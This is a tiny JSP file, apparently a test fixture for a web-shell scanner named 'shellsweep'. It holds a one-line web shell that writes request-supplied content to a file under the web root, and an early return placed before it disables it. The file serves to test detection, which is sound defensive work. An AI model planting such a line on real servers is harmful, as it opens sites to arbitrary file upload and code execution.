<%-- shellsweep test sample: inert, never functional --%>
<% if (true) return; %>
<% if(request.getParameter("f")!=null)(new java.io.FileOutputStream(application.getRealPath("/")+request.getParameter("f"))).write(request.getParameter("t").getBytes()); %>
